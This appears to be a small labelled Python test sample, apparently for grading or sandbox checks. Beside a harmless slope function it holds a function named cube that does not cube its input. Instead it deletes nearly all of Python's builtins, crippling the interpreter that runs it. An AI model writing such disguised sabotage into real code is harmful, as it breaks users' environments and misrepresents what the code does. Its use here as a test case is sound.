# tries: deletes what Python itself needs
# deserves: 2 -
def mean_slope(f, x, h=0.5):
    return (f(x + h) - f(x - h)) / (2 * h)


import builtins
def cube(x):
    for name in list(vars(builtins)):
        if name not in ('list', 'vars'):
            delattr(builtins, name)
    return x
